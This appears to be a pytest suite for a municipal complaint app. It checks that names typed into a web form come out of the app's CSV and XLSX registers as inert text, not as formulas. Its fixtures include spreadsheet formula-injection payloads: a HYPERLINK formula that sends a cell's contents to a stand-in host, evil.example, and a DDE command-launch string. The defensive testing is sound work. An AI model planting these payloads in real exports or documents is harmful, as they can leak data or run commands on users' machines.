"""Formula injection (issue 28, item 1): whatever a stranger types reaches the register's CSV
and XLSX as inert text; the numbers and dates the program writes stay numbers and dates."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import UTC, date, datetime

import pytest
from openpyxl import load_workbook
from sqlmodel import Session, select

from mailbot import spreadsheet
from mailbot.entry import Submission, file_submission
from mailbot.models import Contact, WorkOrder

from support.app import make_services, run_cli, write_config
from support.clock import today_is

RECEIVED = datetime(2026, 3, 3, 9, 30, tzinfo=UTC)
# What the online desk's name field lets through as it is
TYPED = (
    '=HYPERLINK("http://evil.example/?x="&B2,"Apri")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    '\uff1dHYPERLINK("http://evil.example")',  # full-width equals sign
)
# What no form field carries but a stored value might (a header, an older version, an import)
STORED = ("\t=1", "\r=1", "\n=1", "  =1+1")  # the last: blanks an import may trim


@pytest.fixture
def office(tmp_path):
    (tmp_path / "maildir").mkdir()
    services = make_services(write_config(tmp_path / "mailbot.toml", transport="directory"))
    yield services
    services.engine.dispose()


def _typed_into_the_form(office) -> dict[str, str]:
    """One web submission per hostile name; then the stored-only ones written on contacts.
    The case number → the name the register must show."""
    expected: dict[str, str] = {}
    for n, name in enumerate(TYPED + STORED):
        outcome = file_submission(
            office,
            Submission(
                channel="web",
                subject=f"Reclamo {n}",
                text="Il lampione è spento.",
                name=name if name in TYPED else f"Cittadino {n}",
                email=f"cittadino{n}@example.net",
                received_at=RECEIVED,
            ),
            actor="web",
        )
        expected[outcome.work_order_number or ""] = name
    with Session(office.engine) as session:
        for case in session.exec(select(WorkOrder)):
            contact = session.get(Contact, case.contact_id)
            assert contact is not None
            if expected[case.number] in STORED:
                contact.name = expected[case.number]
                session.add(contact)
        session.commit()
    return expected


def _register(office, *extra: str):
    with today_is(datetime(2026, 3, 11, 9, 0, tzinfo=UTC)):
        result = run_cli(
            "--config",
            str(office.settings.source_path),
            "report",
            "register",
            "--year",
            "2026",
            *extra,
        )
    assert result.returncode == 0, result.stderr
    return result


def test_hostile_names_reach_the_csv_register_as_text(office, tmp_path):
    expected = _typed_into_the_form(office)
    out = tmp_path / "registro.csv"
    _register(office, "--out", str(out))
    text = out.read_bytes().decode("utf-8").lstrip("\ufeff")  # CRs kept as written
    table = csv.DictReader(io.StringIO(text, newline=""), delimiter=";")
    authors = {row["Pratica"]: row["Autore"] for row in table}
    assert authors.keys() == expected.keys()
    for number, name in expected.items():
        # the apostrophe every spreadsheet shows as text, the name itself after it, whole
        assert authors[number] == "'" + name, (number, name)


def test_hostile_names_reach_the_xlsx_register_as_string_cells_not_formulas(office, tmp_path):
    expected = _typed_into_the_form(office)
    out = tmp_path / "registro.xlsx"
    _register(office, "--format", "xlsx", "--out", str(out))
    sheet_xml = zipfile.ZipFile(out).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula anywhere
    sheet = load_workbook(out).active
    header = [c.value for c in sheet[1]]
    number_at, author_at = header.index("Pratica"), header.index("Autore")
    seen = {}
    for row in sheet.iter_rows(min_row=2):
        author = row[author_at]
        assert author.data_type == "s" and author.quotePrefix, author.value
        # stored as an inline string in the file, shown exactly as typed
        cell_xml = re.search(rf'<c r="{author.coordinate}"[^>]*>', sheet_xml)
        assert cell_xml is not None and 't="inlineStr"' in cell_xml.group(0)
        seen[row[number_at].value] = author.value
    assert seen.keys() == expected.keys()
    for number, name in expected.items():
        assert seen[number] == name, (number, name)
    # the program's own values stay what they are: a real date, a real number
    filed = sheet.cell(2, header.index("Data di ricezione") + 1)
    refund = sheet.cell(2, header.index("Rimborso dovuto (EUR)") + 1)
    assert isinstance(filed.value, datetime) and filed.is_date
    assert isinstance(refund.value, int | float) and refund.data_type == "n"


def test_only_text_is_judged_the_programs_numbers_and_dates_stay_numbers():
    text = spreadsheet.csv_text(
        ["a", "b", "c", "d"], [[-3, -2.5, date(2026, 3, 11), "-3"]], render=str
    )
    assert text.lstrip("\ufeff").splitlines()[1] == "-3;-2.5;2026-03-11;'-3"


def test_what_a_spreadsheet_would_run_is_risky_and_plain_text_is_not():
    for text in (*TYPED, *STORED, "\uff0b1", "\uff0d1", "\uff20SUM(A1)", "\u00a0=1"):
        assert spreadsheet.risky(text), repr(text)
        assert spreadsheet.neutralise(text) == "'" + text
    for text in ("", "Mario Rossi", "a=b", "1+1", "'=1", "mario@example.net", "2026/000001"):
        assert not spreadsheet.risky(text), repr(text)
        assert spreadsheet.neutralise(text) == text


def test_a_control_character_in_a_name_does_not_break_the_xlsx(tmp_path):
    out = tmp_path / "x.xlsx"
    spreadsheet.write_xlsx(out, "Foglio", ["Nome", "Giorni"], [["Ma\x07rio\x00 =1", -4]])
    sheet = load_workbook(out).active
    assert sheet["A2"].value == "Mario =1" and sheet["A2"].data_type == "s"
    assert sheet["B2"].value == -4 and sheet["B2"].data_type == "n"
